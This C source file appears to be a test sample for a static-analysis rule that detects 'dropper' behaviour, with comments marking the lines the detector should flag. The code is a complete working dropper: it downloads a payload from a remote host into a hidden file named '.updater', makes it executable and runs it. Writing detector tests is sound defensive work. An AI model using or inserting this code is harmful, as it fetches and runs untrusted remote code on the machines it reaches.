/*
 * behavior.dropper: the payload is streamed straight to disk. The output
 * file is opened first and every recv'd chunk is fwrite'n to it; then the
 * file gets mode 0700 with chmod and runs through posix_spawn.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <spawn.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

extern char **environ;

int main(void)
{
    const char *out = "/var/tmp/.updater";
    char buf[4096];
    ssize_t n;
    struct sockaddr_in sa;
    int s = socket(AF_INET, SOCK_STREAM, 0);

    memset(&sa, 0, sizeof(sa));
    sa.sin_family = AF_INET;
    sa.sin_port = htons(9000);
    inet_pton(AF_INET, "198.51.100.9", &sa.sin_addr);
    if (connect(s, (struct sockaddr *)&sa, sizeof(sa)) != 0)
        return 1;

    FILE *f = fopen(out, "wb");
    if (!f)
        return 1;
    while ((n = recv(s, buf, sizeof(buf), 0)) > 0)
        fwrite(buf, 1, (size_t)n, f);
    fclose(f);
    close(s);

    chmod(out, S_IRWXU); // $ Alert[behavior.dropper]
    pid_t pid;
    char *argv[] = {".updater", NULL};
    if (posix_spawn(&pid, out, NULL, NULL, argv, environ) == 0) // $ Alert[behavior.dropper]
        waitpid(pid, NULL, 0);
    return 0;
}
